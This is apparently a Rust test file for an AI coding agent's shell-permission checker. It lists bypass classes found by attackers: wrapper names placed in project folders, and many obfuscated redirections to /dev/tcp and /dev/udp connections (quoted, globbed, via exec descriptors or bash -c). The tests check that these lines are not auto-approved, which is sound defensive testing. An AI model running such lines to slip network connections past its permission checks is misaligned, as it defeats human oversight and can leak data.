//! Ways around permissions that were found by attackers, by class, and everyday lines that look like them.

use ah_conversation::{Decision, PermissionMode};

use super::{decide, in_w, permissions};

/// Whether the line runs unasked in mode `default` with these allow rules.
fn runs(allow: &[&str], line: &str) -> bool {
    let permissions = permissions(PermissionMode::Default, allow, &[]);
    decide(&permissions, line, &in_w) == Decision::Allow
}

/// Whether the line runs unasked in mode `bypassPermissions` with this deny rule.
fn bypasses(deny: &str, line: &str) -> bool {
    let permissions = permissions(PermissionMode::BypassPermissions, &[], &[deny]);
    decide(&permissions, line, &in_w) == Decision::Allow
}

/// A file of the project may have the name of a wrapper.
#[test]
fn a_wrapper_is_transparent_only_in_a_folder_of_the_system() {
    for wrapper in [
        "nice",
        "nice -n 5",
        "timeout 5",
        "nohup",
        "stdbuf -o0",
        "time",
        "builtin",
        "ionice -c 3",
    ] {
        for (folder, is_transparent) in [
            ("", true),
            ("/bin/", true),
            ("/usr/bin/", true),
            ("/usr/local/bin/", true),
            ("./", false),
            ("bin/", false),
            ("../bin/", false),
            ("/w/", false),
            ("/tmp/usr/bin/", false),
            ("/usr/bin/../../w/", false),
            ("~/", false),
        ] {
            let line = format!("{folder}{wrapper} ls");
            assert_eq!(runs(&[], &line), is_transparent, "{line}");
            let line = format!("{folder}{wrapper} rm x");
            assert!(!bypasses("Bash(rm:*)", &line), "{line}");
        }
    }
}

#[test]
fn a_redirection_to_a_connection_is_no_reading() {
    for line in [
        "cat < /dev/tcp/h/80",
        "cat </dev/udp/h/80",
        "cat < '/dev/tcp/h/80'",
        "cat < \"/dev/tcp/h/80\"",
        "cat < /dev/tcp/h/$PORT",
        "cat < /dev/tc[p]/h/80",
        "cat < //dev//tcp/h/80",
        "exec 3<>/dev/tcp/h/80; cat <&3",
        "exec 3< /dev/tcp/h/80",
        "ls 2>/dev/tcp/h/80",
        "ls &>/dev/tcp/h/80",
        "ls >& /dev/tcp/h/80",
        "ls >> /dev/tcp/h/80",
        "echo \"$(cat < /dev/tcp/h/80)\"",
        "(ls) < /dev/tcp/h/80",
        "bash -c 'cat < /dev/tcp/h/80'",
    ] {
        let allow = [
            "Bash(cat:*)",
            "Bash(exec:*)",
            "Bash(bash:*)",
            "Bash(echo:*)",
        ];
        for mode in PermissionMode::ALL {
            let is_free = mode == PermissionMode::BypassPermissions;
            let permissions = permissions(mode, &allow, &[]);
            let decision = decide(&permissions, line, &in_w);
            assert_eq!(decision == Decision::Allow, is_free, "{line} in {mode:?}");
        }
    }
    for line in [
        "cat < /dev/null",
        "cat < dev/tcp/h/80",
        "ls < /dev/tcp",
        "cat /dev/tcp/h/80",
    ] {
        assert!(runs(&[], line), "{line}");
    }
}
